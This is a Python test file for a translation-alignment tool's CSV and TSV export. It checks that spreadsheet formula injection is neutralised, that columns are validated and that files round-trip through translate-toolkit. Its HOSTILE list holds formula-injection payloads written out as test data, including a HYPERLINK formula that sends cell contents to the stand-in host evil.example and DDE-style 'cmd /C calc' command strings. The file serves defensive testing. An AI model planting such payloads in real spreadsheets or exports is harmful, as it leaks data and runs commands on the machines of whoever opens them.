"""CSV / TSV (LF Aligner layout): layout, formula injection, column validation, reading
back with translate-toolkit's CSV store."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from align.errors import InputError
from align.formats import COLUMNS, ExportPair, export, read_table
from align.types import Alignment, Bead, Document, Signature, Status
from tests.test_formats_samples import sample_pairs

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'already quoted",
    "=İSTANBUL()&ş",
    "Normal İstanbul cümlesi.",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def hostile_pair() -> ExportPair:
    src = Document.from_texts(HOSTILE, "tr")
    tgt = Document.from_texts(list(reversed(HOSTILE)), "en")
    beads = tuple(Bead((i,), (i,), 0.5, Status.AUTO) for i in range(len(HOSTILE)))
    return ExportPair("=cmd", "-key", Alignment(src, tgt, beads, Signature("test")))


def cells(data: bytes, sep: str) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))


@pytest.mark.parametrize(("fmt", "sep"), [("csv", ","), ("tsv", "\t")])
def test_formula_injection_is_neutralised(fmt: str, sep: str, tmp_path: Path) -> None:
    path = tmp_path / f"x.{fmt}"
    data = export([hostile_pair()], fmt, path)
    rows = cells(data, sep)
    assert rows[0] == list(COLUMNS)
    assert len(rows) == len(HOSTILE) + 1
    for row in rows[1:]:
        assert len(row) == len(COLUMNS)
        for cell in row:
            assert not cell.startswith(FORMULA), cell
    assert rows[1][0].startswith("'=HYPERLINK") and rows[1][4] == "'=cmd"
    assert rows[1][5] == "'-key"
    back = read_table(path)
    assert [r.source for r in back] == list(HOSTILE)  # every escape undone, nothing lost
    assert [r.target for r in back] == list(reversed(HOSTILE))
    assert {(r.project, r.pair) for r in back} == {("=cmd", "-key")}


def test_csv_is_excel_friendly_and_tsv_plain() -> None:
    pairs = sample_pairs()[:1]
    csv_data, tsv_data = export(pairs, "csv", None), export(pairs, "tsv", None)
    assert csv_data.startswith(b"\xef\xbb\xbf") and b"\r\n" in csv_data
    assert not tsv_data.startswith(b"\xef\xbb\xbf") and b"\r" not in tsv_data
    assert tsv_data.count(b"\n") == len(pairs[0].alignment.beads) + 1


def test_null_beads_are_rows_with_an_empty_side() -> None:
    pair = sample_pairs()[0]
    rows = cells(export([pair], "csv", None), ",")[1:]
    for row, bead in zip(rows, pair.alignment.beads):
        assert (row[0] == "") == (not bead.src) and (row[1] == "") == (not bead.tgt)
        assert row[3] == bead.status.value and row[6] == str(list(bead.src))


def test_csv_read_by_translate_toolkit() -> None:
    from translate.storage.csvl10n import csvfile

    pair = sample_pairs()[2]
    store = csvfile(io.BytesIO(export([pair], "csv", None)))
    aln = pair.alignment
    assert len(store.units) == len(aln.beads)
    for unit, b in zip(store.units, aln.beads):
        assert unit.source == " ".join(aln.source.sentences[i].text for i in b.src)
        assert unit.target == " ".join(aln.target.sentences[i].text for i in b.tgt)


@pytest.mark.parametrize(("header", "problem"), [
    ("src,tgt,score", "missing column(s) source, target; unknown column(s) 'src', 'tgt'"),
    ("source,score", "missing column(s) target"),
    ("source,target,comment", "unknown column(s) 'comment'"),
    ("source,target,target", "repeated column(s) target"),
    ("Source Text,Target Text", "missing column(s) source, target"),
])
def test_wrong_columns(tmp_path: Path, header: str, problem: str) -> None:
    path = tmp_path / "review.csv"
    path.write_text(f"{header}\nA,B,C\n", encoding="utf-8")
    with pytest.raises(InputError) as e:
        read_table(path)
    assert str(e.value).startswith(f"{path}: ") and problem in str(e.value)


@pytest.mark.parametrize(("line", "problem"), [
    ("a,b,xx,auto", "line 2: could not convert string to float"),
    ("a,b,0.5,maybe", "line 2: 'maybe' is not a valid Status"),
    ("a,b,0.5,auto,p,k,[0;1]", "line 2: not a list of sentence ids"),
])
def test_bad_cells(tmp_path: Path, line: str, problem: str) -> None:
    path = tmp_path / "review.csv"
    path.write_text(",".join(COLUMNS[:7]) + "\n" + line + "\n", encoding="utf-8")
    with pytest.raises(InputError, match=problem):
        read_table(path)


def test_minimal_two_column_table(tmp_path: Path) -> None:
    path = tmp_path / "lf.tsv"
    path.write_text("target\tsource\nThe court.\tMahkeme.\n\n", encoding="utf-8")
    (row,) = read_table(path)
    assert (row.source, row.target, row.status, row.score) == ("Mahkeme.", "The court.",
                                                              None, None)


def test_semicolon_csv_from_excel(tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    path.write_bytes("\ufeffsource;target;status\r\nŞehir, köy;Town, village;confirmed\r\n"
                     .encode("utf-8"))
    (row,) = read_table(path)
    assert (row.source, row.target, row.status) == ("Şehir, köy", "Town, village",
                                                    Status.CONFIRMED)


@pytest.mark.parametrize("content", [b"", b"\xff\xfe\x00bad"])
def test_empty_or_undecodable(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(content)
    with pytest.raises(InputError, match=str(path)):
        read_table(path)
    with pytest.raises(InputError, match="does not exist"):
        read_table(tmp_path / "missing.csv")
